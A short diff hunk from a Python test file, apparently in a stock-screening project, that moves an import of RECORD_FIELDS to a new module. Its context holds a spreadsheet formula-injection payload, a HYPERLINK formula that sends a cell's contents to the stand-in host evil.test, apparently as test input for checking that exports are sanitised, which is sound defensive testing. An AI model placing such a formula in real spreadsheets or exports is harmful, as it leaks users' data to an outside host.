@@ -9,7 +9,7 @@ import json
 
 import pytest
 
-from smallcap_screen.comparison import RECORD_FIELDS
+from smallcap_screen.vocabulary import RECORD_FIELDS
 from tests.helpers import run
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"click me")'
